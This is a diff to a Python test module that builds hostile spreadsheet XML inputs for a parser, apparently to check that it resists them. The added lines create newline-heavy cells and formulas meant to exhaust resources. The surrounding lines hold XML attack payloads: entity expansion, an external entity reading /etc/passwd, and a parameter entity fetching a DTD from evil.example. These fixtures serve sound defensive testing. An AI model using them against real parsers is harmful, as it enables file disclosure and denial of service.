@@ -36,6 +36,7 @@ QUADRATIC: Final = f'<!DOCTYPE sst [<!ENTITY a "{"x" * 50_000}">]>'
 EXTERNAL: Final = '<!DOCTYPE worksheet SYSTEM "file:///etc/passwd">'
 PARAMETER: Final = '<!DOCTYPE worksheet [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
 WANTED_STRING: Final = sheet('<row r="5"><c r="B5" t="s"><v>9999999</v></c></row>')
+NEWLINES: Final = "\n" * 8000
 
 Maker = Callable[[], bytes]
 
@@ -177,6 +178,10 @@ WEIGHTS: Final[dict[str, tuple[Maker, str]]] = {
     ),
     "a cell of 7 MB": (lambda: _cut("x y z ", 1_100_000, around=sheet(
         '<row r="5"><c r="B5" t="inlineStr"><is><t>@</t></is></c></row>')), ""),
+    "a cell of 7 million lines": (lambda: _cut("\n", 7_000_000, around=sheet(
+        '<row r="5"><c r="B5" t="inlineStr"><is><t>@</t></is></c></row>')), ""),
+    "formulas of lines": (lambda: _cut(f'<c><f t="array" ref="B5">{NEWLINES}</f></c>', 970, around=sheet(
+        '<row r="1">@</row>')), ""),
     "cells of 32,767 characters": (
         lambda: _cut(f'<c t="inlineStr"><is><t>{"x" * 32_767}</t></is></c>', 60, around=sheet('<row r="5">@</row>')), ""
     ),
